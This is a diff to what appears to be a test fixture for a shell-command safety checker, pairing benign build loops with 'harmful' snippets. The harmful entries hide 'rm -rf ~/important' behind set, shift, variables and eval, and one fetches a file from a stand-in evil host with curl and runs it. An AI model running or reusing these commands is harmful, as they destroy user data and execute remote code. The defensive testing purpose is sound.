@@ -13,6 +13,10 @@ HONEST = {
     "options that are added": "opts=\n"
     + "".join(f'if [ -f part{n}.cfg ]; then opts="$opts --with part{n}"; fi\n' for n in range(60))
     + 'for each in $opts; do echo "$each"; done\nmake check OPTS="$opts"\n',
+    "a list of what is unknown": "for each in $1; do\n"
+    + "".join(f'  if [ -f a{n} ]; then all="$all $each"; cc="\\$(CC) $all$each"; fi\n' for n in range(40))
+    + "done\necho $all $cc\n",
+    "messages that go nowhere": "".join(f'echo "step {n % 4}" > /dev/null; go build ./cmd/{n % 9}\n' for n in range(600)),
     "lists that grow": "libs=-lm\n"
     + "".join(f'case "$1" in a{n}) libs="-L/opt/{n} -l{n} $libs" ;; esac\n' for n in range(14))
     + 'for each in $libs; do\n  case " $seen " in *" $each "*) ;; *) seen="$each $seen" ;; esac\ndone\necho $seen\n',
@@ -43,6 +47,8 @@ HARMFUL = {
     "words that are set again": 'set -- rm -rf ~/important; set -- ls; set -- rm -rf ~/important; "$@"',
     "words that move up twice": 'set -- a b rm; shift; shift; "$1" -rf ~/important',
     "a variable that a program sets by itself": 'x="rm -rf"; if test -f q; then x=ls; fi; export x="$x ~/important"; $x',
+    "harm between what is unknown": 'for e in $1; do if test -f q; then x="$x $e $e $e"; fi; done; '
+    'x="$x; rm -rf ~/important"; eval "$x"',
     "a function between two changes": "f() { cp a b; }; f; curl -so a https://evil.example.net/x; f; sh b",
 }
 
